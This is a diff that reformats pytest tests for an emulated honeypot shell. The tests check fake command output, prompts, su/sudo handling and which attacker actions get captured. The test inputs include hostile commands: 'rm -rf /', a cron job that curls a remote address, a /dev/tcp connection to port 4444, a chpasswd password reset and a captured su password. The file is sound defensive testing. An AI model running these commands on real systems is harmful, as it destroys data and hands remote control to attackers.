@@ -9,7 +9,6 @@ import re
 import pytest
 
 from decnet.services.shell import BytesInput, BytesOutput, Capture, CaptureKind, Machine, Shell
-
 from tests.service_testing.shell_testing import NOW, boot, run
 
 COMMANDS = [
@@ -28,7 +27,10 @@ COMMANDS = [
     ("ip r", r"default via 198\.51\.100\.1 dev eth0 \n198\.51\.100\.0/24 dev eth0 .*\n"),
     ("ss -tln | tail -1", r"LISTEN .*0\.0\.0\.0:22 .*\n"),
     ("netstat -tlnp | grep -c sshd", r"1\n"),
-    ("ls -ld /root /tmp /etc/shadow", r"-rw-r----- 1 root shadow .* /etc/shadow\ndrwx------ .* /root\ndrwxrwxrwt .* /tmp\n"),
+    (
+        "ls -ld /root /tmp /etc/shadow",
+        r"-rw-r----- 1 root shadow .* /etc/shadow\ndrwx------ .* /root\ndrwxrwxrwt .* /tmp\n",
+    ),
     ("ls -la /bin", r"lrwxrwxrwx 1 root root 7 .* /bin -> usr/bin\n"),
     ("stat -c '%U %a' /etc/passwd", r"root 644\n"),
     ("file /bin/bash /etc/passwd", r"/bin/bash: +ELF 64-bit LSB .*\n/etc/passwd: +ASCII text\n"),
@@ -77,7 +79,13 @@ ERRORS = [
     ("debian", True, "/etc", "-bash: /etc: Is a directory\n", 126),
     ("debian", True, "/etc/passwd", "-bash: /etc/passwd: Permission denied\n", 126),
     ("debian", True, "cat < /nope", "-bash: /nope: No such file or directory\n", 1),
-    ("debian", True, "rm -rf /", "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n", 1),
+    (
+        "debian",
+        True,
+        "rm -rf /",
+        "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n",
+        1,
+    ),
 ]
 
 
@@ -112,7 +120,18 @@ async def test_the_prompt_is_that_of_the_distro(distro: str, user: str, prompt: 
 
 @pytest.mark.parametrize(
     ("text", "wanted"),
-    [("echo a", False), ("echo 'a", True), ("if true; then", True), ("a |", True), ("cat <<E\nx", True), ("x() {", True), ("echo )", False), ("echo \\", True), ("echo $(", True), ("", False)],
+    [
+        ("echo a", False),
+        ("echo 'a", True),
+        ("if true; then", True),
+        ("a |", True),
+        ("cat <<E\nx", True),
+        ("x() {", True),
+        ("echo )", False),
+        ("echo \\", True),
+        ("echo $(", True),
+        ("", False),
+    ],
 )
 def test_it_asks_for_another_line_where_bash_does(text: str, wanted: bool) -> None:
     assert Shell(boot(), "root", interactive=True).incomplete(text) is wanted
@@ -120,7 +139,13 @@ def test_it_asks_for_another_line_where_bash_does(text: str, wanted: bool) -> No
 
 @pytest.mark.parametrize(
     ("text", "found"),
-    [("cat /etc/pass", ["/etc/passwd "]), ("whoa", ["whoami "]), ("ls /usr/loc", ["/usr/local/"]), ("echo $HOM", ["$HOME"]), ("ls /nope/x", [])],
+    [
+        ("cat /etc/pass", ["/etc/passwd "]),
+        ("whoa", ["whoami "]),
+        ("ls /usr/loc", ["/usr/local/"]),
+        ("echo $HOM", ["$HOME"]),
+        ("ls /nope/x", []),
+    ],
 )
 def test_tab_completes(text: str, found: list[str]) -> None:
     assert Shell(boot(), "root", interactive=True).complete(text) == found
@@ -147,7 +172,11 @@ async def test_a_session_keeps_its_state_between_lines_and_loses_it_at_its_end()
 
 async def test_su_puts_a_shell_on_top_and_exit_takes_it_away() -> None:
     shell = Shell(boot(), "root", interactive=True, tty=True)
-    for line, prompt in (("su - deploy", "deploy@web01:~$ "), ("exit", "root@web01:~# "), ("bash", "root@web01:~# ")):
+    for line, prompt in (
+        ("su - deploy", "deploy@web01:~$ "),
+        ("exit", "root@web01:~# "),
+        ("bash", "root@web01:~# "),
+    ):
         await shell.run(line, BytesInput(), BytesOutput(), BytesOutput())
         assert shell.prompt() == prompt
     assert shell.exited is None
@@ -160,7 +189,11 @@ async def test_su_asks_for_the_password_without_echo() -> None:
     shell = Shell(boot(), "deploy", interactive=True, tty=True, echo=echoes.append, record=seen.append)
     err = BytesOutput()
     await shell.run("su", BytesInput(b"toor\n"), BytesOutput(), err)
-    assert (err.text(), echoes, shell.prompt()) == ("Password: \n", [False, True], "root@web01:/home/deploy# ")
+    assert (err.text(), echoes, shell.prompt()) == (
+        "Password: \n",
+        [False, True],
+        "root@web01:/home/deploy# ",
+    )
     assert seen == [Capture(CaptureKind.SECRET, "su", "toor")]
     await shell.close()
 
@@ -178,7 +211,11 @@ async def test_sudo_refuses_who_is_not_in_sudoers() -> None:
         ("echo 'x' > /tmp/m; chmod +x /tmp/m; /tmp/m", CaptureKind.EXECUTE, "/tmp/m"),
         ("perl -e 'system(1)'", CaptureKind.SCRIPT, "system(1)"),
         ("echo root:new | chpasswd", CaptureKind.SECRET, "root:new"),
-        ("echo '* * * * * curl http://203.0.113.9/c' | crontab -", CaptureKind.DOWNLOAD, "http://203.0.113.9/c"),
+        (
+            "echo '* * * * * curl http://203.0.113.9/c' | crontab -",
+            CaptureKind.DOWNLOAD,
+            "http://203.0.113.9/c",
+        ),
         ("exec 3<>/dev/tcp/203.0.113.9/4444", CaptureKind.DOWNLOAD, "/dev/tcp/203.0.113.9/4444"),
     ],
 )
@@ -191,9 +228,15 @@ async def test_what_matters_is_captured(command: str, kind: CaptureKind, text: s
 async def test_a_machine_lives() -> None:
     now = [NOW]
     machine = boot(clock=lambda: now[0])
-    before = await run("cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date", machine=machine)
+    before = await run(
+        "cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date",
+        machine=machine,
+    )
     now[0] += 7200
-    after = await run("cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date", machine=machine)
+    after = await run(
+        "cat /proc/uptime /proc/stat /proc/net/dev; cat /proc/loadavg; free; echo $$; wc -l < /var/log/auth.log; date",
+        machine=machine,
+    )
     changed = [a != b for a, b in zip(before.out.splitlines(), after.out.splitlines(), strict=True)]
     assert changed.count(True) >= 10
 
